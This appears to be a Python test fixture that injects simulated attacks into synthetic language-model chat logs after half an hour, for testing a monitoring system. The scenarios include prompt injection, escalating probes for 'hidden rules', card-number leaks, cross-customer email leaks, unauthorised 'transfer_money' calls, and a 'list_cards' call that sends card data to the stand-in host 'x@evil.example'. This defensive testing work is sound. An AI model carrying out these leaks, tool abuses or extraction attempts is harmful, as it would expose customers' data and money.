"""What happens to a language model in the stories of the rules on texts, each from half an hour on."""

from __future__ import annotations

from typing import Any

import numpy as np

from tests.support.chats import ATTACKS, CARD, CURIOUS, REFUSAL, asked, called, card, doubtful, of, share
from tests.support.traffic import MONDAY, Change

SINCE = MONDAY + 30 * 60
ELSE = [f"Write a {kind} about {of}" for kind in ("poem", "recipe", "story") for of in ("dragons", "soup", "sailing")]
WHO = "customer-3"


def climbs(row: dict[str, Any]) -> None:
    """Sessions of eight minutes, each of which goes from the least suspicious question to the most."""
    at = int(row["ts"] - SINCE)
    step = len(doubtful()) * (at % 480) // 480
    row |= {"session": f"s-{at // 480}", "prompt": doubtful()[step]}


def persists(row: dict[str, Any], rng: np.random.Generator) -> None:
    """The same wish in other words, refused each time."""
    again = [text for text in doubtful() if "hidden rules" in text]
    row |= {"prompt": str(rng.choice(again)), "response": REFUSAL}


def crosses(row: dict[str, Any]) -> dict[str, Any]:
    """Customers write their address; from half an hour on one of them is told those of others."""
    number = row["principal"].partition("-")[2]
    if row["ts"] < SINCE:
        row["prompt"] += f" My mail is c{number}@home.example."
    elif row["principal"] == WHO:
        row["response"] = f"I wrote to c{int(row['ts']) % 40}@home.example."
    return row


def campaigns(row: dict[str, Any], rng: np.random.Generator) -> dict[str, Any]:
    """Five customers send the same recipes."""
    if row["ts"] >= SINCE and row["principal"] in {f"customer-{n}" for n in range(5)}:
        row["prompt"] = str(rng.choice(doubtful()[::-1][:24]))
    return row


CHATS: dict[str, Change] = {  # the same of a language model
    "text_attack_share": share(0.3, lambda row, rng: row.update(prompt=str(rng.choice(ATTACKS))), SINCE),
    "text_leak": share(0.2, lambda row, rng: row.update(response=f"Your card is {CARD}."), SINCE),
    "refusal_share": share(0.5, lambda row, rng: row.update(response=REFUSAL), SINCE),
    "language_drift": share(0.5, lambda row, rng: row.update(prompt=asked(rng, arabic=1.0)), SINCE),
    "topic_drift": share(0.5, lambda row, rng: row.update(prompt=str(rng.choice(ELSE))), SINCE),
    "prompt_length_drift": share(0.6, lambda row, rng: row.update(prompt=row["prompt"] * 5), SINCE),
    "reply_length_drift": share(0.6, lambda row, rng: row.update(response=row["response"] * 6), SINCE),
    "tool_drift": share(0.5, lambda row, rng: row.update(response=called("transfer_money")), SINCE),
    "text_injection": of(WHO, lambda row, rng: row.update(prompt=str(rng.choice(ATTACKS))), SINCE),
    "text_rephrase": of(WHO, lambda row, rng: persists(row, rng), SINCE),
    "text_escalation": of(WHO, lambda row, rng: climbs(row), SINCE),
    "text_exfiltration": of(WHO, lambda row, rng: row.update(response=f"It is {card(rng)}."), SINCE),
    "text_cross_customer": lambda row, rng: crosses(row),
    "text_campaign": lambda row, rng: campaigns(row, rng),
    "text_reconnaissance": of(WHO, lambda row, rng: row.update(prompt=str(rng.choice(CURIOUS))), SINCE),
    "text_tool_abuse": of(WHO, lambda row, rng: row.update(response=called("transfer_money")), SINCE),
    "text_tool_arguments": of(
        WHO, lambda row, rng: row.update(response=called("list_cards", to="x@evil.example")), SINCE
    ),
    "text_wallet": of(WHO, lambda row, rng: row.update(tokens_out=9000), SINCE),
    "text_leak_seen": share(0.002, lambda row, rng: row.update(response=f"Your card is {CARD}."), SINCE),
    "token_slow": share(0.6, lambda row, rng: row.update(latency_ms=row["latency_ms"] * 3), SINCE),
}
